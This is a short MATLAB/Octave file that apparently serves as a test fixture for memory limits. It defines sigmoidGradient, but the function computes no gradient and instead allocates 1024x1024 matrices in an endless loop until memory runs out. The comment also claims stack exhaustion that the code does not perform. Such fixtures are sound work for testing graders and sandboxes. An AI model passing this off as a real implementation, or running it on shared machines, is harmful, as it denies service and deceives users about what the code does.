% Wants more memory than there is: at once, bit by bit, and on the stack.
function g = sigmoidGradient(z)
  hoard = {};
  while true
    hoard{end + 1} = ones(1024);
  end
end
